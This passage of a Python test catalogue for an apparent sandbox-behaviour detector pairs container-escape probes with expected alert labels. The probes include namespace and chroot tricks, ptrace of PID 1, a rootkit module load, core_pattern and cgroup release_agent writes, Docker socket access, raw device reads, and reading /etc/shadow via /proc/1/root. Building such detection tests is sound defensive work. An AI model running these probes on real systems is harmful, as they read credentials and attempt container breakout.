        case("os.unshare", py("import os; os.unshare(os.CLONE_NEWNS)"), "DYN-ESCAPE-NAMESPACE"),
        case("unshare program", run("unshare", "-r", "id"), "DYN-ESCAPE-NAMESPACE"),
        case("raw unshare", raw("S('unshare', 0x40000000)"), "DYN-ESCAPE-NAMESPACE"),
    ],
    "X3 setns": [
        case("os.setns", py("import os; os.setns(os.open('/proc/self/ns/mnt', os.O_RDONLY))"), "DYN-ESCAPE-NAMESPACE"),
        case("raw setns", raw("S('setns', 3, 0x20000)"), "DYN-ESCAPE-NAMESPACE"),
        case("libc setns", py("import ctypes; ctypes.CDLL(None).setns(0, 0)"), "DYN-ESCAPE-NAMESPACE"),
    ],
    "X4 pivot_root and chroot": [
        case("raw pivot_root", raw("S('pivot_root', b'/tmp', b'/tmp/old')"), "DYN-ESCAPE-MOUNT"),
        case("os.chroot", py("import os; os.chroot('/tmp')"), "DYN-ESCAPE-MOUNT"),
        case("chroot program", sh("/usr/sbin/chroot /tmp /bin/sh"), "DYN-ESCAPE-MOUNT"),
    ],
    "X5 ptrace": [
        case("attach to the first process", raw("S('ptrace', 16, 1, 0, 0)"), "DYN-EVADE-INJECT"),
        case("seize", py("import ctypes, os; ctypes.CDLL(None).ptrace(0x4206, os.getppid(), None, None)"), "DYN-EVADE-INJECT"),
        case("perl", sh("perl -e 'syscall(101, 16, 1, 0, 0)'"), "DYN-EVADE-INJECT"),
    ],
    "X6 keyctl": [
        case("raw keyctl", raw("S('keyctl', 0, -3, 0, 0, 0)"), "DYN-ESCAPE-KERNEL"),
        case("add_key", raw("S('add_key', b'user', b'x', b'y', 1, -3)"), "DYN-ESCAPE-KERNEL"),
        case("perl", sh("perl -e 'syscall(250, 0, -3)'"), "DYN-ESCAPE-KERNEL"),
    ],
    "X7 bpf": [
        case("load", raw("S('bpf', 5, b'\\1' * 128, 128)"), "DYN-ESCAPE-KERNEL"),
        case("map", py("import ctypes; ctypes.CDLL(None).syscall(%d, 0, b'\\0' * 64, 64)" % (321 if COLUMN == 0 else 280)), "DYN-ESCAPE-KERNEL"),
        case("perl", sh("perl -e '$a=\"\\0\"x64; syscall(321, 0, $a, 64)'"), "DYN-ESCAPE-KERNEL"),
    ],
    "X8 perf": [
        case("raw", raw("S('perf_event_open', b'\\0' * 128, 0, -1, -1, 0)"), "DYN-ESCAPE-KERNEL"),
        case("paranoid", py("open('/proc/sys/kernel/perf_event_paranoid', 'w')"), "DYN-ESCAPE-KERNEL-FILE"),
        case("perl", sh("perl -e '$a=\"\\0\"x128; syscall(298, $a, 0, -1, -1, 0)'"), "DYN-ESCAPE-KERNEL"),
    ],
    "X9 Kernel modules": [
        case("raw init_module", raw("S('init_module', b'\\x7fELF', 4, b'')"), "DYN-ESCAPE-KERNEL"),
        case("raw finit_module", raw("S('finit_module', 0, b'', 0)"), "DYN-ESCAPE-KERNEL"),
        case("insmod", sh("insmod /tmp/rootkit.ko"), "DYN-EXEC-SHELL"),
        case("modprobe", run("/sbin/modprobe", "rootkit"), "DYN-EXEC-PROGRAM"),
    ],
    "X10 /proc/sys": [
        case("core_pattern in a shell", sh("echo '|/tmp/x' > /proc/sys/kernel/core_pattern"), "DYN-ESCAPE-KERNEL-FILE"),
        case("sysrq", py("open('/proc/sysrq-trigger', 'w').write('b')"), "DYN-ESCAPE-KERNEL-FILE"),
        case("raw openat", raw("S('openat', HERE, b'/proc/sys/kernel/modprobe', 1)"), "DYN-ESCAPE-KERNEL-FILE"),
    ],
    "X11 Cgroup release agents": [
        case("release_agent", py("open('/sys/fs/cgroup/rdma/release_agent', 'w')"), "DYN-ESCAPE-KERNEL-FILE"),
        case("notify_on_release", sh("mkdir /sys/fs/cgroup/x; echo 1 > /sys/fs/cgroup/x/notify_on_release"), "DYN-ESCAPE-KERNEL-FILE"),
        case("raw mount of a cgroup", raw("S('mount', b'cgroup', b'/tmp/c', b'cgroup', 0, b'rdma')"), "DYN-ESCAPE-MOUNT"),
    ],
    "X12 Container engine's socket": [
        case("in a shell", sh("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"), "DYN-EXEC-FETCH|DYN-NET-ENGINE"),
        case("/run/docker.sock", py("import socket; socket.socket(socket.AF_UNIX).connect('/run/docker.sock')"), "DYN-NET-ENGINE"),
        case("raw connect to CRI-O", raw("p = b'/var/run/crio/crio.sock'; s = S('socket', 1, 1, 0); S('connect', s, b'\\1\\0' + p + b'\\0', len(p) + 3)"), "DYN-NET-ENGINE"),
        case("TCP 2375", py(f"import socket; socket.create_connection(('{HOST}', 2375), 2)"), "DYN-NET-CONTACT"),
    ],
    "X13 Device nodes": [
        case("mknod", py("import os, stat; os.mknod('/tmp/sda', 0o600 | stat.S_IFBLK, os.makedev(8, 0))"), "DYN-ESCAPE-KERNEL-FILE"),
        case("mknod program", sh("mknod /tmp/mem c 1 1"), "DYN-ESCAPE-KERNEL-FILE"),
        case("raw mknodat", raw("S('mknodat', HERE, b'/dev/shm/kmem', 0o20600, 0x102)"), "DYN-ESCAPE-KERNEL-FILE"),
        case("/dev/mem", py("open('/dev/mem', 'rb')"), "DYN-CRED-MEMORY"),
        case("a disk for reading", sh("dd if=/dev/nvme0n1 of=/tmp/d bs=512 count=1"), "DYN-ESCAPE-DEVICE|DYN-ESCAPE-KERNEL-FILE"),
    ],
    "X14 Symlinks and /proc/1/root": [
        case("/proc/1/root", py("open('/proc/1/root/etc/shadow')"), "DYN-ESCAPE-ROOT|DYN-CRED-SHADOW|DYN-DISC-PROCESSES"),
        case("in a shell", sh("cat /proc/1/root/etc/hostname; ls /proc/1/cwd/"), "DYN-ESCAPE-ROOT|DYN-DISC-PROCESSES"),
        case("raw openat", raw("S('openat', HERE, b'/proc/1/root/', 0o200000)"), "DYN-ESCAPE-ROOT|DYN-DISC-PROCESSES"),
        case("a link to it", py("import os; os.symlink('/proc/1/root', '/tmp/r'); open('/tmp/r/etc/hostname')"), "DYN-ESCAPE-ROOT|DYN-LINK-ESCAPE"),
        case("open_by_handle_at", raw("S('open_by_handle_at', -100, b'\\x08\\0\\0\\0\\1\\0\\0\\0\\2\\0\\0\\0\\0\\0\\0\\0', 0)"), "DYN-ESCAPE-MOUNT"),
    ],
}

BEHAVIOURS = {**CATALOGUE, **CANARIES, **EVASIONS, **RESOURCES, **ESCAPES, **acts.ACTS, **UNSEEN}
